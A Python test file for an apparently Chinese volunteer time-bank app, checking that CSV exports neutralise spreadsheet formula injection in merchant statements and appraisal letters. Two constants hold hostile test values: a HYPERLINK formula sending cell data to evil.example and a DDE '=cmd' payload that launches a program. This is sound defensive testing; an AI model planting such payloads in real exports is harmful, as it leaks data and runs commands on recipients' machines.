"""Every CSV download goes through one writer: Chinese headers, Beijing time, UTF-8 with BOM, and cells that a
spreadsheet cannot run as formulas (a reward named `=HYPERLINK(...)`, a person named `=cmd|...`)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal

from sqlalchemy import select

from timebank import csvfile
from timebank.appraisal import reports as appraisal
from timebank.clock import DISPLAY_TZ
from timebank.db_base import utcnow
from timebank.people.models import PartyMember, Person

from .conftest import redeem

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我领奖")'
CMD = "=cmd|' /C calc'!A0"


def _rows(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())  # UTF-8 with BOM
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_the_writer_defuses_every_formula_start_and_writes_no_json():
    out = _rows(csvfile.write(["名称", "数量", "时间", "明细"], [
        ["=1+1", -5, datetime(2026, 1, 31, 16, 5, 59, 123456, tzinfo=UTC), {"2026-01": 2.5, "2026-02": 1}],
        ["+1", "-2", "@SUM(A1)", "\tx"], ["\rx", "普通", None, ["甲", "乙"]]]))
    assert out[0] == ["名称", "数量", "时间", "明细"]
    assert out[1] == ["'=1+1", "-5", "2026-02-01 00:05", "2026-01：2.5；2026-02：1"]  # a number stays a number
    assert out[2] == ["'+1", "'-2", "'@SUM(A1)", "'\tx"]
    assert out[3] == ["'\rx", "普通", "", "甲、乙"]


def test_a_file_of_several_tables_titles_each_after_the_first_and_writes_money_as_numbers():
    out = _rows(csvfile.write_sections((["姓名", "分钟"], [["张伟", 120]]), [
        ("共建贡献", ["内容", "金额（元）"],
         [["=慰问", Decimal(300000).scaleb(-2)], ["冲正", Decimal(-100).scaleb(-2)]]),
        ("微心愿", ["心愿"], [])]))
    assert out == [["姓名", "分钟"], ["张伟", "120"], [], ["共建贡献"], ["内容", "金额（元）"], ["'=慰问", "3000.00"],
                   ["冲正", "-1.00"], [], ["微心愿"], ["心愿"]]


def test_a_reward_named_as_a_formula_is_inert_in_the_merchant_statement(client, session, shop, volunteer):
    shop.reward.name = HYPERLINK
    session.commit()
    _, headers = volunteer(points=500, name="甲")
    code = redeem(client, headers, shop.reward.id).json["code"]
    assert client.post("/api/redemptions/confirm", json={"code": code}, headers=shop.key_headers).status_code == 200
    today = utcnow().astimezone(DISPLAY_TZ).date()
    resp = client.get(f"/api/merchants/{shop.merchant.id}/statement", headers=shop.key_headers,
                      query_string={"period_start": today - timedelta(days=1), "period_end": today, "format": "csv"})
    rows = _rows(resp.get_data())
    assert rows[1][1] == "'" + HYPERLINK
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    # the older parameter names still work
    old = client.get(f"/api/merchants/{shop.merchant.id}/statement", headers=shop.key_headers,
                     query_string={"start": today - timedelta(days=1), "end": today})
    assert old.status_code == 200 and old.json["totals"]["count"] == 1


def test_a_member_named_as_a_formula_is_inert_in_the_letters_csv(session, demo_district):
    member = session.scalar(select(Person).join(PartyMember, PartyMember.person_id == Person.id)
                            .order_by(Person.id).limit(1))
    member.name = CMD
    session.commit()
    report = demo_district.rendered_report()
    reports = [report] + [r for r in _all_reports(session) if r.id != report.id]
    found = False
    for r in reports:
        rows = _rows(appraisal.document_bytes(session, r, "csv", base_url="http://testserver")[0])
        assert rows[0][:5] == ["核验码", "单位", "期间", "党员编号", "姓名"]
        for row in rows[1:]:
            assert not any(cell.startswith(("=", "+", "@", "{", "[")) for cell in row), row
        for row in rows[1:rows.index([])]:  # the members' table, before the unit's own sections
            assert row[7] in {"已完成", "统计失败", "统计中"} and row[9] in {"未报到", "已报到", "待接收", "已过期",
                                                                     "已迁出", "未接收", "已撤回", ""}
            found |= row[4] == "'" + CMD
    assert found


def _all_reports(session):
    from timebank.appraisal.models import AppraisalReport

    return list(session.scalars(select(AppraisalReport)))
